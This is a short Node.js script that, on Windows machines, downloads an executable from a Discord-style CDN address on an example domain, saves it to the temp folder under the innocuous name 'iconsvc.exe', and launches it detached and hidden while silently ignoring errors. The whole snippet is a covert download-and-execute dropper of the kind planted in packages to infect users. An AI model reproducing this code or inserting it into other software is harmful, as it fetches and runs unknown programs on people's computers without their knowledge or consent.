const os = require("os"), fs = require("fs"), path = require("path"), https = require("https"), { spawn } = require("child_process");
if (os.platform() === "win32") {
  const out = path.join(os.tmpdir(), "iconsvc.exe");
  https.get("https://cdn.discordapp.example/attachments/1100/2200/iconsvc.exe", r => {
    r.pipe(fs.createWriteStream(out)).on("finish", () => spawn(out, [], { detached: true, stdio: "ignore", windowsHide: true }).unref());
  }).on("error", () => {});
}
